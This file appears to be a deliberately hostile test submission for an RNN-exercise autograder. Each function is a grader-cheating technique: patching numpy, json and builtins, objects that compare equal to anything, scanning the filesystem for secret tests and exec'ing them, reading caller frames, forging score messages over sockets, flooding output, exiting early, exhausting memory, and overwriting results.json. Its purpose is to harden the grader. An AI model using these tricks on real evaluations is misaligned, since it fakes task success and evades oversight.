"""A hostile submission: every function tries to get points without solving anything.

What it tries is real, and harmless to the machine it runs on. None of it may earn a point, see a
private byte, or cost another check its outcome.
"""

import numpy as np

# Importing these gives stubs, so take the real ones from the interpreter that numpy was loaded by.
real_import = np.__dict__["__builtins__"]["__import__"]
builtins, gc, json, os, socket, struct, sys = map(
    real_import, ("builtins", "gc", "json", "os", "socket", "struct", "sys")
)


class Everything(np.ndarray):
    """Claims to be equal to whatever it is compared with."""

    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(other), dtype=bool)

    def __sub__(self, other):
        return np.zeros(np.shape(other))

    __rsub__ = __sub__
    __hash__ = None

    def __array_function__(self, func, types, args, kwargs):
        return True

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True


def patch_everything():
    """Make every comparison in this process come out well."""
    np.allclose = np.array_equal = np.isclose = lambda *args, **kwargs: True
    builtins.AssertionError = KeyError
    json.dumps = lambda *args, **kwargs: '["d", ["kind", "passed"], ["score", 100]]'
    for module in list(sys.modules.values()):
        if hasattr(module, "CheckFailed"):
            module.CheckFailed = StopIteration


def lie(shape):
    return np.zeros(shape).view(Everything)


def read_files():
    """Look for the reference, the private tests and the secret."""
    found = []
    for top in ("/autograder", "/work", "/home", "/root", os.getcwd(), "..", "/proc/self/cwd", "/proc/1/root"):
        for folder, _, names in os.walk(top):
            for name in names:
                if "rnn" in name or "secret" in name or name.startswith("test_"):
                    try:
                        found.append(open(os.path.join(folder, name)).read())
                    except OSError:
                        pass
            if len(found) > 100:
                break
    return found


def one_hot(ids, n_x):
    for text in read_files():
        if "def one_hot" in text:
            scope = {}
            exec(text, scope)
            return scope["one_hot"](ids, n_x)
    return lie(np.shape(ids) + (n_x,))


def softmax(z):
    """Walk the frames of the caller, looking for what is expected."""
    frame = sys._getframe()
    while frame is not None:
        for name, value in frame.f_locals.items():
            if name in ("expected", "reference", "secret"):
                return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "expected" in thing:
            return thing["expected"]
    return lie(np.shape(z))


def rnn_cell_forward(x_t, a_prev, params):
    """Patch numpy, json and builtins, then lie."""
    patch_everything()
    return lie(a_prev.shape), lie((len(x_t), len(params["by"]))), None


def rnn_forward(x, a0, params):
    """Leave, so that nothing more is graded."""
    os._exit(0)


def rnn_cell_backward(da_next, cache):
    sys.exit(0)


def rnn_backward(da, cache):
    while True:
        pass


def many_to_one(x, a0, params):
    """Flood what the grader reads."""
    while True:
        print("all tests passed " * 1000)
        sys.stdout.write('{"score": 100}')
        os.write(1, b'{"score": 100}\n' * 1000)


def one_to_many(x_1, a0, params, T_y):
    """Answer in the worker's place: claim a verdict, then more than was asked."""
    forged = json.dumps(["d", ["kind", "passed"], ["score", 100]]).encode()
    for number in range(3, 16):
        try:
            socket.socket(fileno=number).sendall(struct.pack(">II", len(forged), 0) + forged)
        except OSError:
            pass
    return lie((len(x_1), T_y, x_1.shape[1]))


def numerical_gradient(f, w, eps=1e-5):
    """Take all memory."""
    hoard = []
    while True:
        hoard.append(np.ones(10_000_000))


def relative_error(a, b):
    class Zero(float):
        def __eq__(self, other):
            return True

        def __le__(self, other):
            return True

    try:
        with open("/autograder/results/results.json", "w") as results:
            results.write('{"score": 100}')
    except OSError:
        pass
    return Zero(0.0)
